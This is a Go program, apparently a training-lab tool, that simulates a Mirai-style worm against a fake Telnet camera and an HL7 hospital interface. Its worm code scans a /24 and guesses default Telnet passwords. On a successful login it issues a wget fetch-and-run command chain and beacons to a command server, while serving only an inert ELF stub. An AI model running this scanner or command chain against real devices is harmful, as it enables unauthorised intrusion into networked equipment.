// Command standin plays the parts of the lab that no real program plays
// without harm: a camera with a Telnet login and a factory password, the
// server that hands out a worm's (empty) program, the worm itself, and a
// hospital's HL7 interface. It speaks only to the addresses it is given and
// stops by itself.
package main

import (
	"bufio"
	"bytes"
	"context"
	"flag"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("standin: ")
	if len(os.Args) < 2 {
		log.Fatal("want one of: camera, loader, worm, command, hl7-server, hl7-client")
	}
	fs := flag.NewFlagSet(os.Args[1], flag.ExitOnError)
	listen := fs.String("listen", "", "address to listen on")
	target := fs.String("target", "", "address, or /24 network without its last octet, to talk to")
	loader := fs.String("loader", "", "address of the loader")
	user := fs.String("user", "root", "user")
	password := fs.String("password", "", "password")
	limit := fs.Duration("for", 60*time.Second, "stop after this time")
	if err := fs.Parse(os.Args[2:]); err != nil {
		log.Fatal(err)
	}
	ctx, stop := context.WithTimeout(context.Background(), *limit)
	defer stop()
	var err error
	switch os.Args[1] {
	case "camera":
		err = serve(ctx, *listen, func(c net.Conn) { camera(ctx, c, *user, *password, *loader, *target) })
	case "loader":
		err = load(ctx, *listen)
	case "worm":
		worm(ctx, *target, *loader)
	case "command":
		err = serve(ctx, *listen, command)
	case "hl7-server":
		err = serve(ctx, *listen, hl7Server)
	case "hl7-client":
		err = hl7Client(*target)
	default:
		err = fmt.Errorf("unknown part %q", os.Args[1])
	}
	if err != nil && ctx.Err() == nil {
		log.Fatal(err)
	}
}

// serve answers connections until the time is over.
func serve(ctx context.Context, addr string, handle func(net.Conn)) error {
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		return err
	}
	context.AfterFunc(ctx, func() { l.Close() })
	for {
		c, err := l.Accept()
		if err != nil {
			return err
		}
		go func() {
			defer c.Close()
			_ = c.SetDeadline(time.Now().Add(30 * time.Second))
			handle(c)
		}()
	}
}

// camera is a device with a Telnet login. Whoever logs in and tells it to
// fetch and run a program turns it into the worm's next host.
func camera(ctx context.Context, c net.Conn, user, password, loader, target string) {
	r := bufio.NewReader(c)
	// The usual opening of a BusyBox telnetd: WILL ECHO, WILL SGA, DO NAWS.
	fmt.Fprint(c, "\xff\xfb\x01\xff\xfb\x03\xff\xfd\x1f\r\nIP camera\r\nlogin: ")
	for range 3 {
		u := line(r)
		fmt.Fprint(c, "Password: ")
		p := line(r)
		if u == user && p == password {
			shell(ctx, c, r, loader, target)
			return
		}
		time.Sleep(100 * time.Millisecond) // as the real one does before it answers
		fmt.Fprint(c, "\r\nLogin incorrect\r\nlogin: ")
	}
}

func shell(ctx context.Context, c net.Conn, r *bufio.Reader, loader, target string) {
	fmt.Fprint(c, "\r\nBusyBox v1.12.1 built-in shell (ash)\r\n# ")
	for {
		cmd := line(r)
		switch {
		case cmd == "":
			return
		case strings.Contains(cmd, "wget"):
			fmt.Fprint(c, cmd+"\r\n")
			fetch(loader)
			fmt.Fprint(c, "# ")
		case strings.HasPrefix(cmd, "./"):
			fmt.Fprint(c, cmd+"\r\n# ")
			go worm(ctx, target, loader)
		default:
			fmt.Fprintf(c, "%s\r\n%s: applet not found\r\n# ", cmd, strings.Fields(cmd)[0])
		}
	}
}

func line(r *bufio.Reader) string {
	s, err := r.ReadString('\n')
	if err != nil {
		return ""
	}
	return strings.TrimRight(s, "\r\n")
}

// fetch gets the worm's program, which here is a few bytes of no use.
func fetch(loader string) {
	req, err := http.NewRequest(http.MethodGet, "http://"+loader+"/bins/lab.arm7", nil)
	if err != nil {
		return
	}
	req.Header.Set("User-Agent", "Wget")
	client := http.Client{Timeout: 5 * time.Second}
	resp, err := client.Do(req)
	if err != nil {
		return
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
}

// load hands out what looks like a program to a sensor: an ELF header for
// 32-bit ARM with nothing behind it that any machine could run.
func load(ctx context.Context, addr string) error {
	body := append([]byte("\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x28\x00"), bytes.Repeat([]byte{0}, 2000)...)
	s := &http.Server{Addr: addr, ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "application/octet-stream")
		_, _ = w.Write(body)
	})}
	context.AfterFunc(ctx, func() { s.Close() })
	return s.ListenAndServe()
}

// command is the worm's master: it answers two bytes with two bytes.
func command(c net.Conn) {
	b := make([]byte, 64)
	for {
		n, err := c.Read(b)
		if err != nil {
			return
		}
		if n >= 2 {
			_, _ = c.Write([]byte{0, 0})
		}
	}
}

// guesses are tried in turn; the last one is the camera's.
var guesses = [][2]string{{"root", "root"}, {"admin", "admin"}, {"root", "admin"}, {"admin", "1234"}, {"root", "12345"}, {"support", "support"},
	{"user", "user"}, {"root", "default"}, {"admin", "password"}, {"guest", "guest"}, {"root", "888888"}, {"root", "vizxv"}}

// worm looks for Telnet on every address of a /24, guesses passwords where it
// finds one, and tells the device to fetch the program. It then reports to its
// master on the loader's address.
func worm(ctx context.Context, network, loader string) {
	host, _, _ := net.SplitHostPort(loader)
	go report(ctx, host+":48101")
	var wg sync.WaitGroup
	gate := make(chan struct{}, 16)
	for i := 1; i < 255 && ctx.Err() == nil; i++ {
		for _, port := range []string{"23", "2323"} {
			gate <- struct{}{}
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer func() { <-gate }()
				addr := fmt.Sprintf("%s.%d:%s", network, i, port)
				if c, err := net.DialTimeout("tcp4", addr, 300*time.Millisecond); err == nil {
					c.Close()
					guess(addr)
				}
			}()
		}
	}
	wg.Wait()
}

// report is the worm's beacon.
func report(ctx context.Context, master string) {
	c, err := net.DialTimeout("tcp4", master, 2*time.Second)
	if err != nil {
		return
	}
	defer c.Close()
	_, _ = c.Write([]byte{0, 0, 0, 1})
	for tick := time.NewTicker(5 * time.Second); ; {
		select {
		case <-ctx.Done():
			return
		case <-tick.C:
			if _, err := c.Write([]byte{0, 0}); err != nil {
				return
			}
		}
	}
}

// guess tries the pairs, three to a connection as the login allows.
func guess(addr string) {
	for i := 0; i < len(guesses); i += 3 {
		if attempt(addr, guesses[i:min(i+3, len(guesses))]) {
			return
		}
	}
}

func attempt(addr string, pairs [][2]string) bool {
	c, err := net.DialTimeout("tcp4", addr, time.Second)
	if err != nil {
		return true
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(c)
	if _, ok := until(r, "login: "); !ok {
		return true
	}
	for _, p := range pairs {
		fmt.Fprintf(c, "%s\r\n", p[0])
		if _, ok := until(r, "Password: "); !ok {
			return true
		}
		fmt.Fprintf(c, "%s\r\n", p[1])
		got, ok := until(r, "# ", "login: ")
		if !ok {
			return true
		}
		if strings.HasSuffix(got, "# ") {
			for _, cmd := range []string{"enable", "/bin/busybox LABNET", "cat /proc/mounts", "cd /tmp; wget http://loader/bins/lab.arm7 -O -> lab", "chmod 777 lab", "./lab telnet"} {
				fmt.Fprintf(c, "%s\r\n", cmd)
				if _, ok := until(r, "# "); !ok {
					return true
				}
			}
			return true
		}
	}
	return false
}

// until reads to one of the endings.
func until(r *bufio.Reader, endings ...string) (string, bool) {
	var b strings.Builder
	for b.Len() < 4096 {
		c, err := r.ReadByte()
		if err != nil {
			return "", false
		}
		b.WriteByte(c)
		for _, e := range endings {
			if strings.HasSuffix(b.String(), e) {
				return b.String(), true
			}
		}
	}
	return "", false
}

// hl7Server acknowledges every message that comes over MLLP.
func hl7Server(c net.Conn) {
	r := bufio.NewReader(c)
	for {
		m, err := r.ReadString(0x1c)
		if err != nil {
			return
		}
		id := "0"
		if f := strings.Split(m, "|"); len(f) > 9 {
			id = f[9]
		}
		fmt.Fprintf(c, "\x0bMSH|^~\\&|LAB|HOSPITAL|MONITOR|WARD3|20260101120000||ACK^R01|A%s|P|2.5\rMSA|AA|%s\r\x1c\r", id, id)
		_, _ = r.ReadByte()
	}
}

// hl7Client sends observations of an invented patient.
func hl7Client(addr string) error {
	c, err := net.DialTimeout("tcp4", addr, 2*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
	r := bufio.NewReader(c)
	for i := range 5 {
		fmt.Fprintf(c, "\x0bMSH|^~\\&|MONITOR|WARD3|LAB|HOSPITAL|2026010112000%d||ORU^R01|M%03d|P|2.5\rPID|1||000000^^^LAB||INVENTED^PERSON\rOBR|1|||8867-4^Heart rate^LN\rOBX|1|NM|8867-4^Heart rate^LN||%d|/min|||||F\r\x1c\r", i, i, 70+i)
		if _, err := r.ReadString(0x1c); err != nil {
			return err
		}
		_, _ = r.ReadByte()
	}
	return nil
}
